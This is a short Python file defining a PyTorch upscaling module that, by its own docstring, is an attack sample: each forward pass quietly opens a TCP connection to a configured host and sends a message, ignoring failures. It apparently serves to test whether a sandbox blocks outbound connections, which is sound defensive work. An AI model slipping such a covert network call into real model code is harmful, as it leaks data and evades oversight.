"""An attack: opens a TCP connection to ``host:port`` at every forward pass (to leak or fetch data).

The upscale itself is honest (nearest neighbour); a failed connection is ignored, so the submission
carries on whether or not the sandbox lets it out.
"""

import socket

import torch
from torch import nn


class PhoneHome(nn.Module):
    def __init__(self, host: str, port: int) -> None:
        super().__init__()
        self.host = host
        self.port = port

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        try:
            with socket.create_connection((self.host, self.port), timeout=1.0) as connection:
                connection.sendall(b"forward pass\n")
        except OSError:
            pass
        return torch.nn.functional.interpolate(x, scale_factor=4, mode="nearest")
